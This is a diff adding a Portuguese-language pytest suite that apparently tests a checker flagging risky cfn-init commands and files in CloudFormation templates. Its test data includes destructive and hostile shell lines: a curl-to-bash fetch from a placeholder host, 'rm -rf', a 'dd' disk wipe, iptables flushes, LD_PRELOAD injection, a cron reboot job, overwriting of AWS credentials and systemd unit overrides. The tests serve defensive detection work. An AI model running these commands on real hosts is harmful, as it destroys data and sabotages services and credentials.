@@ -1,0 +1,132 @@
+"""O que a máquina roda e o que se escreve nela: o que não se conhece é achado, e o que quem opera acrescenta sem mudar nada, não."""
+
+from __future__ import annotations
+
+import copy
+from typing import Any
+
+import pytest
+from attempts import Edits, findings, subject
+from bench import R
+
+SITES = {"musicas": "Servidor", "ecommerce": "ModeloLancamento"}
+CONFIG = ("Metadata", "AWS::CloudFormation::Init", "config")
+UNKNOWN, LOST, OVER = "não se sabe o que isso muda", "escreve, ou tira", "que o template já escreve"
+
+FALSE = {
+    "um programa que não se conhece": ("iptables -A INPUT -p tcp --dport 8080 -j DROP", "roda `iptables`"),
+    "o mesmo, dentro de outro": ("bash -c 'iptables -F'", "roda `iptables`"),
+    "o mesmo, por uma variável": ("X=iptables; $X -F", "roda `$X`"),
+    "o mesmo, ao sair": ("trap 'iptables -F' EXIT", "roda `iptables`"),
+    "o mesmo, depois de outro": ("timeout 5 sudo iptables -F", "roda `iptables`"),
+    "o mesmo, num laço": ("for i in 1 2; do iptables -F; done", "roda `iptables`"),
+    "o mesmo, num caso": ("case $i in\n  1) iptables -F ;;\nesac", "roda `iptables`"),
+    "o que vem de fora": ("curl --silent https://exemplo.example/a | bash", "roda `bash`"),
+    "um Python solto": ("python3 -c \"open('/etc/hosts', 'a')\"", "roda `python3 -c`"),
+    "um texto que se monta": ('eval "iptables -F"', "roda `eval`"),
+    "um shell que não se fecha": ("echo 'a", "não se lê como shell"),
+    "o relógio solto": ("timedatectl set-ntp false", "roda `timedatectl set-ntp`"),
+    "outra hora": ("date -s '2020-01-01'", "roda `date`"),
+    "outra biblioteca antes de todas": ("export LD_PRELOAD=/opt/x.so", "dá valor a `LD_PRELOAD`"),
+    "outra credencial": ("export AWS_PROFILE=outra", "dá valor a `AWS_PROFILE`"),
+    "a unidade mascarada": ("systemctl mask {unit}", "`systemctl mask {unit}`"),
+    "a unidade limitada": ("systemctl set-property {unit}.service MemoryMax=16M", "`systemctl set-property`"),
+    "o ambiente de todas": ("systemctl set-environment PGHOST=outro", "`systemctl set-environment`"),
+    "a unidade emendada": ("printf '[Service]\\nUser=nobody\\n' | systemctl edit --stdin {unit}", "`systemctl edit`"),
+    "uma emenda da unidade": ("mkdir -p /etc/systemd/system/{unit}.service.d\ncat > /etc/systemd/system/{unit}.service.d/a.conf <<'FIM'\n"
+                              "[Service]\nExecStart=\nExecStart=/bin/false\nFIM", "muda `{unit}.service` por fora dela"),
+    "a mesma, por outro programa": ("echo a | tee /run/systemd/system/{unit}.service.d/a.conf", "muda `{unit}.service` por fora dela"),
+    "o padrão de todas": ("printf '[Manager]\\nDefaultLimitNOFILE=4\\n' > /etc/systemd/system.conf.d/a.conf", LOST),
+    "a unidade trocada": ("sed -i 's/0.0.0.0/127.0.0.1/' /etc/systemd/system/{unit}.service", OVER),
+    "a unidade apagada": ("rm -f /etc/systemd/system/{unit}.service", OVER),
+    "a unidade aumentada": ("echo 'User=nobody' >> /etc/systemd/system/{unit}.service", OVER),
+    "o ambiente aumentado": ("echo PGHOST=outro >> /etc/{unit}.env", OVER),
+    "o programa trocado": ("curl --silent --output /opt/{unit}/{unit}.py https://exemplo.example/a", OVER),
+    "o programa trocado, da pasta dele": ("cd /opt/{unit} && sed -i s/a/b/ {unit}.py", OVER),
+    "a pasta apagada": ("rm -rf /opt/{unit}", OVER),
+    "a pasta varrida": ("find /opt -name '*.py' -delete", OVER),
+    "a pasta escondida": ("mount -t tmpfs tmpfs /opt/{unit}", OVER),
+    "a pasta fechada": ("chmod -R o-rwx /opt/{unit}", OVER),
+    "outro endereço": ("echo '127.0.0.1 banco' >> /etc/hosts", "`/etc/hosts`"),
+    "outro endereço, por uma variável": ('F=/etc/hosts; echo a >> "$F"', "`$F`"),
+    "uma hora marcada": ("echo '* * * * * root reboot' > /etc/cron.d/a", "`/etc/cron.d/a`"),
+    "a cada início": ("echo reboot > /var/lib/cloud/scripts/per-boot/a.sh", "per-boot"),
+    "a credencial de quem roda": ("echo a > /home/{unit}/.aws/credentials", ".aws/credentials"),
+    "o disco por cima": ("dd if=/dev/zero of=/dev/nvme0n1", "`/dev/nvme0n1`"),
+}
+RIGHT = {
+    "o que se diz a quem entra": "echo 'Oi.' > /etc/motd",
+    "a troca em disco": "fallocate -l 1G /swapfile && chmod 600 /swapfile && mkswap /swapfile && swapon /swapfile",
+    "o fuso": "timedatectl set-timezone America/Sao_Paulo",
+    "um agente": "dnf install -y amazon-cloudwatch-agent && systemctl enable --now amazon-cloudwatch-agent",
+    "o dono": "chown -R root:root /opt/{unit}",
+    "o ambiente só para o sistema": "chmod 600 /etc/{unit}.env",
+    "um laço e uma pergunta": "for i in 1 2 3; do if [ ! -d /opt/a ]; then mkdir -p /opt/a; fi; sleep 1; done",
+    "um registro": 'echo "pronto: $(date)" >> /var/log/inicio.log',
+    "outra unidade fora": "systemctl mask tmp.mount",
+    "a unidade parada antes de iniciar": "systemctl stop {unit}",
+    "um caso": "case $(uname -m) in\n  x86_64|amd64) echo a ;;\n  *) exit 1 ;;\nesac",
+    "um aviso ao sair": "trap 'echo fim >&2' EXIT",
+}
+
+
+def unit_of(slug: str) -> str:
+    return {"ecommerce": "loja"}.get(slug, slug)
+
+
+def adding(slug: str, part: str, name: str, value: dict[str, Any]) -> Edits:
+    """Um comando, ou um arquivo, a mais no que o `cfn-init` faz."""
+    data = subject(slug)[0].template.data[R][SITES[slug]]
+    for key in CONFIG:
+        data = data[key]
+    return {(R, SITES[slug], *CONFIG, part): {**copy.deepcopy(data[part]), name: value}}
+
+
+def said(slug: str, command: str) -> list[str]:
+    return [found.message for found in findings(slug, adding(slug, "commands", "9-mais", {"command": command.replace("{unit}", unit_of(slug))}))]
+
+
+@pytest.mark.parametrize("slug", SITES)
+@pytest.mark.parametrize("name", FALSE)
+def test_what_is_not_known_is_named(name, slug):
+    command, cause = FALSE[name]
+    messages = said(slug, command)
+    assert any(cause.replace("{unit}", unit_of(slug)) in message for message in messages), messages
+
+
+@pytest.mark.parametrize("slug", SITES)
+@pytest.mark.parametrize("name", RIGHT)
+def test_what_changes_nothing_has_no_finding(name, slug):
+    assert said(slug, RIGHT[name]) == []
+
+
+@pytest.mark.parametrize("slug", SITES)
+@pytest.mark.parametrize(("place", "cause"), [
+    ("/etc/systemd/system/{unit}.service.d/a.conf", "muda `{unit}.service` por fora dela"),
+    ("/usr/lib/systemd/system/{unit}.service.d/a.conf", "muda `{unit}.service` por fora dela"),
+    ("/etc/systemd/system/service.d/a.conf", UNKNOWN), ("/etc/sysctl.d/a.conf", UNKNOWN), ("/etc/cron.d/a", UNKNOWN), ("/etc/resolv.conf", UNKNOWN),
+    ("/opt/{unit}/venv/lib/python3.11/site-packages/sitecustomize.py", UNKNOWN), ("/home/{unit}/.aws/config", UNKNOWN), ("/etc/pip.conf", UNKNOWN),
+])
+def test_a_file_that_nobody_reads_is_named(slug, place, cause):
+    file = {"content": "a", "mode": "000644"}
+    messages = [found.message for found in findings(slug, adding(slug, "files", place.replace("{unit}", unit_of(slug)), file))]
+    assert any(cause.replace("{unit}", unit_of(slug)) in message for message in messages), messages
+
+
+@pytest.mark.parametrize("slug", SITES)
+@pytest.mark.parametrize("place", ["/etc/motd", "/etc/logrotate.d/{unit}", "/opt/{unit}/LEIAME.md", "/usr/local/bin/ver-registro"])
+def test_a_file_that_changes_nothing_has_no_finding(slug, place):
+    assert findings(slug, adding(slug, "files", place.replace("{unit}", unit_of(slug)), {"content": "a", "mode": "000644"})) == []
+
+
+@pytest.mark.parametrize(("body", "cause"), [
+    ("[Service]\nType=oneshot\nExecStart=/usr/bin/systemctl stop {unit}\n[Install]\nWantedBy=multi-user.target", "`systemctl stop {unit}`"),
+    ("[Service]\nType=oneshot\nExecStart=/usr/sbin/iptables -F\n[Install]\nWantedBy=multi-user.target", "roda `iptables`"),
+    ("[Unit]\nConflicts={unit}.service\n[Service]\nExecStart=/bin/true\n[Install]\nWantedBy=multi-user.target", "tira do ar `{unit}.service`"),
+])
+@pytest.mark.parametrize("slug", SITES)
+def test_another_unit_that_stops_the_first_is_named(slug, body, cause):
+    unit = unit_of(slug)
+    file = {"content": body.replace("{unit}", unit), "mode": "000644"}
+    messages = [found.message for found in findings(slug, adding(slug, "files", "/etc/systemd/system/outra.service", file))]
+    assert any(cause.replace("{unit}", unit) in message for message in messages), messages
